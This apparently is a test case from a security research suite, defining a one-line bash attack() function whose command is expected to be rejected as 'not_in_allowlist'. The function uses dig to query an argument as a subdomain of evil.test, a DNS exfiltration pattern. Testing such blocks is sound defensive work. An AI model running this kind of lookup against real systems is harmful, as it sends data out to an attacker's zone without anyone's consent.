# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A word as a name in the attacker'\''s zone' origin='RESEARCH §2.25'
reason=not_in_allowlist forms='output forward run'
attack() { client dig +tries=1 +timeout=10 @198.18.2.53 "$1.evil.test"; }
